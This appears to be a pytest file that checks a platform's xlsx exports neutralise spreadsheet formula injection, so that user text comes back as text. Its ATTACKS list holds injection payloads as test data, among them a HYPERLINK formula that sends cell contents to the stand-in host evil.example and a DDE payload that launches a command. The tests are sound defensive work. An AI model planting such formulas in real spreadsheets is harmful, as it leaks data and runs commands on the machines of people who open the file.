"""Spreadsheet formula injection: every xlsx the platform writes stores user text as text, never a formula."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from tiaokuai.core.xlsx import append_row, needs_neutralising, workbook_bytes

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", ATTACKS)
def test_given_formula_led_text_when_written_then_it_comes_back_as_text(text):
    wb = Workbook()
    append_row(wb.active, ["名称", text, 3, None])
    content = workbook_bytes(wb)
    cell = load_workbook(io.BytesIO(content)).active["B1"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML turns a lone CR into LF
    assert cell.quotePrefix
    assert "<f>" not in _sheet_xml(content)


def test_given_plain_values_when_written_then_unchanged_and_no_quote_prefix():
    wb = Workbook()
    append_row(wb.active, ["青石镇", 12, 1.5, None, "a-b"])
    ws = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    assert [c.value for c in ws[1]] == ["青石镇", 12, 1.5, None, "a-b"]
    assert not ws["A1"].quotePrefix
    assert not needs_neutralising("a=b") and not needs_neutralising(5)


def test_given_control_characters_when_written_then_dropped_instead_of_failing():
    wb = Workbook()
    append_row(wb.active, ["a\x01b\x0bc"])
    assert load_workbook(io.BytesIO(workbook_bytes(wb))).active["A1"].value == "abc"


def test_given_formula_led_matter_name_when_list_exported_then_text_and_round_trip_keeps_it(county):
    from tiaokuai.duties import selectors, services, xlsx

    office = county.users["establishment_office"]
    m = county.release.matters.get(code="HB-001")
    m.name = ATTACKS[0]
    m.description = "@SUM(1)"
    m.save()
    content = xlsx.export_release(county.release)
    assert "<f>" not in _sheet_xml(content)
    ws = load_workbook(io.BytesIO(content))["清单"]
    names = [c.value for c in ws["B"]]
    assert ATTACKS[0] in names
    draft = services.release_start_draft(actor=office)
    services.release_import_xlsx(actor=office, release_id=draft.pk, content=content)
    assert selectors.release_dump(draft) == selectors.release_dump(county.release)


def test_given_formula_led_figures_and_accountability_rows_when_exported_then_no_formula():
    import datetime as dt

    from tiaokuai.whistles import reports

    content = reports.figures_xlsx([{"name": "=1+2", "whistles": 3}], dt.date(2026, 11, 1), "department")
    assert "<f>" not in _sheet_xml(content)
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "=1+2"
